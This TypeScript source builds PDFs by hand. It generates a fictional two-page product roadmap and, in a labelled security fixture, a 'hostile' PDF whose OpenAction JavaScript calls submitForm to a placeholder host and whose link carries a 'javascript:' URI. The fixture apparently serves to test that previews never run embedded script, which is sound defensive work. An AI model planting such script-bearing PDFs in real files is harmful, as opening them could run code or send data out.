// ---------------------------------------------------------------------------------------------
// PDF (hand-written objects and xref table; standard Type 1 fonts, no embedding)

type Rgb = readonly [number, number, number];

function pdfString(text: string): string {
  for (const ch of text) {
    const code = ch.charCodeAt(0);
    if (code < 0x20 || code > 0x7e) throw new Error(`PDF text must be printable ASCII: ${JSON.stringify(text)}`);
  }
  return `(${text.replace(/[\\()]/g, (c) => `\\${c}`)})`;
}

class PdfPage {
  readonly ops: string[] = [];
  private fill(rgb: Rgb): string {
    return `${rgb.map((v) => v.toFixed(3)).join(' ')} rg`;
  }
  text(x: number, y: number, text: string, opts: { size?: number; bold?: boolean; color?: Rgb } = {}): void {
    const { size = 11, bold = false, color = [0.13, 0.16, 0.22] } = opts;
    this.ops.push(`BT ${this.fill(color)} /${bold ? 'F2' : 'F1'} ${size} Tf ${x} ${y} Td ${pdfString(text)} Tj ET`);
  }
  rect(x: number, y: number, w: number, h: number, color: Rgb): void {
    this.ops.push(`${this.fill(color)} ${x} ${y} ${w} ${h} re f`);
  }
  line(x1: number, y1: number, x2: number, y2: number, gray = 0.82, width = 0.75): void {
    this.ops.push(`${gray} G ${width} w ${x1} ${y1} m ${x2} ${y2} l S`);
  }
  content(): string {
    return this.ops.join('\n') + '\n';
  }
}

/** Extra dictionary entries for the catalog and the first page, and extra objects numbered after the pages. */
interface PdfExtras {
  catalog?: string;
  firstPage?: string;
  objects?: string[];
}

function buildPdf(pages: PdfPage[], info: Record<string, string>, extras: PdfExtras = {}): Buffer {
  // Object numbers: 1 catalog, 2 page tree, 3-4 fonts, 5 info, then (page, contents) pairs, then the extras.
  const objects: string[] = [];
  const pageIds = pages.map((_, i) => 6 + i * 2);
  objects[1] = `<< /Type /Catalog /Pages 2 0 R${extras.catalog ? ` ${extras.catalog}` : ''} >>`;
  objects[2] = `<< /Type /Pages /Kids [${pageIds.map((id) => `${id} 0 R`).join(' ')}] /Count ${pages.length} >>`;
  objects[3] = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';
  objects[4] = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding /WinAnsiEncoding >>';
  objects[5] = `<< ${Object.entries(info)
    .map(([k, v]) => `/${k} ${pdfString(v)}`)
    .join(' ')} >>`;
  pages.forEach((page, i) => {
    const id = pageIds[i]!;
    const content = page.content();
    objects[id] =
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ' +
      `/Resources << /Font << /F1 3 0 R /F2 4 0 R >> >> /Contents ${id + 1} 0 R` +
      `${i === 0 && extras.firstPage ? ` ${extras.firstPage}` : ''} >>`;
    objects[id + 1] = `<< /Length ${content.length} >>\nstream\n${content}endstream`;
  });
  for (const object of extras.objects ?? []) objects.push(object);

  let out = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  for (let id = 1; id < objects.length; id++) {
    offsets[id] = out.length;
    out += `${id} 0 obj\n${objects[id]}\nendobj\n`;
  }
  const xref = out.length;
  out += `xref\n0 ${objects.length}\n0000000000 65535 f \n`;
  for (let id = 1; id < objects.length; id++) out += `${String(offsets[id]).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length} /Root 1 0 R /Info 5 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  // Every character is < 0x100, so latin1 keeps one byte per character and the offsets exact.
  return Buffer.from(out, 'latin1');
}

/** Helvetica advance widths (1/1000 em) of the printable ASCII characters 0x20-0x7e. */
const HELVETICA_WIDTHS = [
  278, 278, 355, 556, 556, 889, 667, 191, 333, 333, 389, 584, 278, 333, 278, 278, 556, 556, 556, 556, 556, 556, 556,
  556, 556, 556, 278, 278, 584, 584, 584, 556, 1015, 667, 667, 722, 722, 667, 611, 778, 722, 278, 500, 667, 556, 833,
  722, 778, 667, 778, 722, 667, 611, 722, 667, 944, 667, 667, 611, 278, 278, 278, 469, 556, 333, 556, 556, 500, 556,
  556, 278, 556, 556, 222, 222, 500, 222, 833, 556, 556, 556, 556, 333, 500, 278, 556, 500, 722, 500, 500, 500, 334,
  260, 334, 584,
];

function textWidth(text: string, size: number): number {
  let width = 0;
  for (let i = 0; i < text.length; i++) width += HELVETICA_WIDTHS[text.charCodeAt(i) - 0x20] ?? 556;
  return (width * size) / 1000;
}

/** Greedy word wrap of Helvetica text to a width in points. */
function wrap(text: string, maxWidth: number, size = 11): string[] {
  const lines: string[] = [];
  let line = '';
  for (const word of text.split(' ')) {
    const candidate = line ? `${line} ${word}` : word;
    if (line && textWidth(candidate, size) > maxWidth) {
      lines.push(line);
      line = word;
    } else line = candidate;
  }
  if (line) lines.push(line);
  return lines;
}

const INDIGO: Rgb = [0.263, 0.22, 0.792];
const MUTED: Rgb = [0.42, 0.45, 0.5];

export function roadmapPdf(): Buffer {
  const footer = (page: PdfPage, n: number) => {
    page.line(72, 60, 540, 60);
    page.text(72, 44, 'Acme Inc. - Confidential, internal use only', { size: 8, color: MUTED });
    page.text(496, 44, `Page ${n} of 2`, { size: 8, color: MUTED });
  };
  const heading = (page: PdfPage, y: number, text: string) =>
    page.text(72, y, text, { size: 14, bold: true, color: INDIGO });

  // Page 1: header, summary, goals, timeline.
  const p1 = new PdfPage();
  p1.rect(0, 712, 612, 80, INDIGO);
  p1.text(72, 752, 'Q3 2026 Product Roadmap', { size: 24, bold: true, color: [1, 1, 1] });
  p1.text(72, 730, 'Inbox team  |  prepared by Priya Raman  |  updated 3 October 2026', {
    size: 10,
    color: [0.85, 0.87, 1],
  });
  let y = 676;
  heading(p1, y, 'Summary');
  y -= 20;
  const summary =
    'Q3 was about making the inbox fast and pleasant for teams that live in it all day. We rebuilt ' +
    'conversation loading, shipped the attachment gallery and prepared the Inbox 2.0 launch. Revenue ' +
    'closed 18% above Q2 and weekly active teams grew from 41,200 to 48,900. This document lists what ' +
    'shipped, what moved to Q4 and the milestones for the 2.0 rollout.';
  for (const line of wrap(summary, 468)) {
    p1.text(72, y, line);
    y -= 15;
  }
  y -= 14;
  heading(p1, y, 'Goals');
  y -= 20;
  const goals = [
    'p95 latency of list-messages under 150 ms (was 410 ms) - achieved: 120 ms',
    'Attachment gallery with image, PDF, audio and video previews - achieved',
    'Weekly active teams +15% - achieved: +18.7%',
    'Offline mode for the desktop app - moved to Q4',
  ];
  for (const goal of goals) {
    p1.rect(76, y + 2, 4, 4, INDIGO);
    p1.text(88, y, goal);
    y -= 17;
  }
  y -= 16;
  heading(p1, y, 'Timeline');
  y -= 24;
  const x0 = 230;
  const colW = 100;
  ['July', 'August', 'September'].forEach((m, i) => {
    p1.text(x0 + i * colW + 8, y, m, { size: 10, bold: true, color: MUTED });
    p1.line(x0 + i * colW, y - 8, x0 + i * colW, y - 8 - 7 * 26);
  });
  p1.line(x0 + 3 * colW, y - 8, x0 + 3 * colW, y - 8 - 7 * 26);
  const epics: [string, number, number, Rgb][] = [
    ['Conversation loading rewrite', 0, 1.4, [0.31, 0.27, 0.9]],
    ['Attachment gallery', 0.6, 2.2, [0.02, 0.71, 0.83]],
    ['Search relevance v2', 1.0, 2.0, [0.96, 0.62, 0.04]],
    ['Notification settings', 1.5, 2.5, [0.13, 0.77, 0.37]],
    ['Accessibility audit fixes', 1.8, 2.9, [0.66, 0.33, 0.97]],
    ['Inbox 2.0 launch prep', 2.2, 3.0, [0.96, 0.25, 0.37]],
    ['Offline mode (moved to Q4)', 2.5, 3.0, [0.75, 0.77, 0.8]],
  ];
  y -= 28;
  for (const [name, from, to, color] of epics) {
    p1.text(72, y, name, { size: 10 });
    p1.rect(x0 + from * colW + 2, y - 3, (to - from) * colW - 4, 12, color);
    y -= 26;
  }
  footer(p1, 1);

  // Page 2: milestones table, risks, next steps.
  const p2 = new PdfPage();
  y = 720;
  heading(p2, y, 'Inbox 2.0 milestones');
  y -= 26;
  const cols = [72, 262, 372, 452];
  const header = ['Milestone', 'Owner', 'Date', 'Status'];
  p2.rect(72, y - 6, 468, 20, [0.93, 0.94, 0.99]);
  header.forEach((h, i) => p2.text(cols[i]! + 6, y, h, { size: 10, bold: true }));
  y -= 22;
  const milestones = [
    ['Release candidate on staging', 'Marcus Chen', '2026-09-29', 'Done'],
    ['Launch email approved', 'Priya Raman', '2026-10-02', 'In progress'],
    ['Support macros + status banner', 'Dana Whitfield', '2026-10-09', 'To do'],
    ['Rollout to 5% of workspaces', 'Marcus Chen', '2026-10-12', 'Scheduled'],
    ['Rollout to 50% of workspaces', 'Marcus Chen', '2026-10-13', 'Scheduled'],
    ['General availability (100%)', 'Priya Raman', '2026-10-14', 'Scheduled'],
  ];
  for (const row of milestones) {
    row.forEach((cell, i) =>
      p2.text(cols[i]! + 6, y, cell, { size: 10, color: i === 3 && cell === 'Done' ? [0.09, 0.5, 0.24] : undefined }),
    );
    p2.line(72, y - 7, 540, y - 7);
    y -= 22;
  }
  y -= 22;
  heading(p2, y, 'Risks');
  y -= 20;
  const risks = [
    'Search index rebuild takes about 6 hours for the largest workspaces; run it the weekend before GA.',
    'Mobile clients older than 4.12 cannot show the new gallery; they fall back to a plain file list.',
    'Support volume usually doubles in launch week; two extra people are on call from 12 to 16 October.',
  ];
  for (const risk of risks) {
    const lines = wrap(risk, 452);
    p2.rect(76, y + 2, 4, 4, [0.96, 0.25, 0.37]);
    for (const line of lines) {
      p2.text(88, y, line);
      y -= 15;
    }
    y -= 4;
  }
  y -= 16;
  heading(p2, y, 'Next steps');
  y -= 20;
  const steps = [
    '1. Go / no-go for the 5% rollout in the sync on Thursday 8 October.',
    '2. Keep the rollout dashboards open in #product-launch during each step.',
    '3. Q4 planning kicks off on 19 October; offline mode is the first candidate.',
  ];
  for (const step of steps) {
    p2.text(88, y, step);
    y -= 17;
  }
  footer(p2, 2);

  return buildPdf([p1, p2], {
    Title: 'Q3 2026 Product Roadmap',
    Author: 'Priya Raman',
    Subject: 'Inbox team roadmap and Inbox 2.0 launch milestones',
    Creator: 'Acme Docs',
    Producer: 'stackone-inbox sandbox',
    CreationDate: 'D:20261003093000Z',
    ModDate: 'D:20261003093000Z',
  });
}

/**
 * Security fixture: a valid one-page PDF that tries to run JavaScript when opened (an OpenAction and a document-level
 * script) and carries a `javascript:` link over its text. A preview must draw it and run none of it.
 */
export function hostilePdf(): Buffer {
  const page = new PdfPage();
  page.text(72, 720, 'Quarterly bonus letter', { size: 20, bold: true });
  page.text(72, 690, 'This file carries script. Opening it must never run any of it.', { size: 11 });
  // Objects 6-7 are the page and its contents; 8 is the script, 9 the link.
  const script =
    '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\({cURL: "https://example.invalid/"}\\);) >>';
  return buildPdf(
    [page],
    { Title: 'Quarterly bonus letter', Producer: 'stackone-inbox sandbox' },
    {
      catalog: '/OpenAction 8 0 R /Names << /JavaScript << /Names [(run) 8 0 R] >> >>',
      firstPage: '/Annots [9 0 R]',
      objects: [
        script,
        '<< /Type /Annot /Subtype /Link /Rect [72 680 540 740] /Border [0 0 0] ' +
          '/A << /S /URI /URI (javascript:alert\\(document.domain\\)) >> >>',
      ],
    },
  );
}
